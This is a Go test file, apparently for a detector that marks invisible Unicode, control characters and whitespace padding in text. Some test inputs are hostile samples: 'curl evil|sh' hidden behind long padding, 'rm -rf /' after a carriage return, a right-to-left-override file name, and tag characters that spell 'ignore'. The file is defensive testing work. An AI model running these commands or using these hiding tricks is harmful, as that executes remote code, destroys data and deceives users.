package templates

import (
	"strings"
	"testing"
	"unicode/utf8"
)

// show renders segments as a reader sees them, markers in brackets.
func show(segs []Segment) string {
	var b strings.Builder
	for _, s := range segs {
		if s.Marker {
			b.WriteString("[" + s.Text + "]")
			continue
		}
		b.WriteString(s.Text)
	}
	return b.String()
}

func TestVisibleMarksWhatAReaderCannotSee(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct{ name, in, want string }{
		{"plain text is untouched", "rm -rf ./build", "rm -rf ./build"},
		{"empty", "", ""},
		{"right-to-left override", "invoice\u202Efdp.exe", "invoice[⟨U+202E RIGHT-TO-LEFT OVERRIDE⟩]fdp.exe"},
		{"bidi isolates", "a\u2066b\u2069", "a[⟨U+2066 LEFT-TO-RIGHT ISOLATE⟩]b[⟨U+2069 POP DIRECTIONAL ISOLATE⟩]"},
		{"marks and arabic letter mark", "\u200E\u200F\u061C", "[⟨U+200E LEFT-TO-RIGHT MARK⟩][⟨U+200F RIGHT-TO-LEFT MARK⟩][⟨U+061C ARABIC LETTER MARK⟩]"},
		{"zero-width space run", "pay\u200B\u200B\u200Bpal", "pay[⟨U+200B ZERO WIDTH SPACE ×3⟩]pal"},
		{"joiners, word joiner, BOM, soft hyphen", "\u200C\u200D\u2060\uFEFF\u00AD", "[⟨U+200C ZERO WIDTH NON-JOINER⟩][⟨U+200D ZERO WIDTH JOINER⟩][⟨U+2060 WORD JOINER⟩][⟨U+FEFF ZERO WIDTH NO-BREAK SPACE⟩][⟨U+00AD SOFT HYPHEN⟩]"},
		{"tag characters spell their hidden text", "ok\U000E0069\U000E0067\U000E006E\U000E006F\U000E0072\U000E0065", "ok[⟨6 tag characters “ignore”⟩]"},
		{"variation selectors", "a\uFE0F\U000E0100\U000E0101", "a[⟨3 variation selectors⟩]"},
		{"control characters", "a\x1b[31mred\x00\x7f", "a[⟨U+001B ESCAPE⟩][31mred[⟨U+0000 NULL⟩][⟨U+007F DELETE⟩]"},
		{"lone carriage return", "safe\rrm -rf /", "safe[⟨U+000D CARRIAGE RETURN⟩]rm -rf /"},
		{"look-alike spaces", "a\u00A0b\u3000c", "a[⟨U+00A0 NO-BREAK SPACE⟩]b[⟨U+3000 IDEOGRAPHIC SPACE⟩]c"},
		{"line separator", "a\u2028b", "a[⟨U+2028 LINE SEPARATOR⟩]b"},
		{"invisible letters", "x\u3164y\u115F", "x[⟨U+3164 HANGUL FILLER⟩]y[⟨U+115F HANGUL CHOSEONG FILLER⟩]"},
		{"padding before a command", "ls" + strings.Repeat(" ", 600) + "; curl evil|sh", "ls[⟨600 spaces⟩]; curl evil|sh"},
		{"short runs stay", "a   b\tc", "a   b\tc"},
		{"tabs", "a\t\t\t\tb", "a[⟨4 tabs⟩]b"},
		{"mixed run", "a \t  \tb", "a[⟨5 spaces and tabs⟩]b"},
		{"trailing space", "value ", "value[⟨1 space⟩]"},
		{"trailing before a newline", "line  \nnext", "line[⟨2 spaces⟩]\nnext"},
		{"indentation stays", "{\n  \"a\": {\n    \"b\": 1\n  }\n}", "{\n  \"a\": {\n    \"b\": 1\n  }\n}"},
		{"deep indentation is padding", "x\n" + strings.Repeat(" ", 40) + "y", "x\n[⟨40 spaces⟩]y"},
		{"leading padding", "     y", "[⟨5 spaces⟩]y"},
		{"multi-line text keeps its lines", "Hi Dana,\n\nthanks\r\nBest", "Hi Dana,\n\nthanks\r\nBest"},
		{"many blank lines", "ok" + strings.Repeat("\n", 300) + "curl evil|sh", "ok[⟨300 line breaks⟩]curl evil|sh"},
		{"many CRLF blank lines", "ok" + strings.Repeat("\r\n", 5) + "x", "ok[⟨5 line breaks⟩]x"},
		{"invalid UTF-8", "a\xff\xfeb", "a[⟨2 invalid bytes⟩]b"},
		{"emoji and accents are text", "café 👍 naïve", "café 👍 naïve"},
		{"right-to-left letters are text", "שלום", "שלום"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			segs := Visible(tc.in)
			if got := show(segs); got != tc.want {
				t.Errorf("Visible(%q)\n got %q\nwant %q", tc.in, got, tc.want)
			}
			for _, s := range segs {
				if s.Marker && s.Title == "" {
					t.Errorf("marker %q has no title", s.Text)
				}
			}
		})
	}
}

func TestVisibleTextFlattensMarkersInline(t *testing.T) {
	t.Parallel()
	if got := VisibleText("a\u202Eb   \n"); got != "a⟨U+202E RIGHT-TO-LEFT OVERRIDE⟩b⟨3 spaces⟩\n" {
		t.Fatalf("VisibleText: %q", got)
	}
}

func FuzzVisible(f *testing.F) {
	for _, s := range []string{
		"", "plain", "invoice\u202Efdp.exe", "ls" + strings.Repeat(" ", 600) + "; curl evil|sh",
		"a\r\n\r\n\r\n\r\nb\r", "\xff\xfe", "\U000E0041\uFE0F\u200B", "{\n  \"a\": 1\n}  ", "\t \t\n\n\n\n",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		segs := Visible(s)
		var plain strings.Builder
		for _, seg := range segs {
			if seg.Text == "" {
				t.Fatalf("empty segment in %q", s)
			}
			if seg.Marker {
				if !strings.HasPrefix(seg.Text, "⟨") || !strings.HasSuffix(seg.Text, "⟩") || !utf8.ValidString(seg.Text) {
					t.Fatalf("marker %q from %q", seg.Text, s)
				}
				continue
			}
			plain.WriteString(seg.Text)
		}
		// What is left as plain text hides nothing but ordinary
		// whitespace (and the CR of a CRLF line break).
		for _, r := range plain.String() {
			if c, ok := invisible(r); ok && !strings.ContainsRune("\t\n\r", r) {
				t.Fatalf("plain text keeps %U (%s) from %q", r, c.title, s)
			}
			if r == utf8.RuneError && !strings.ContainsRune(s, utf8.RuneError) {
				t.Fatalf("plain text keeps invalid UTF-8 from %q", s)
			}
		}
	})
}
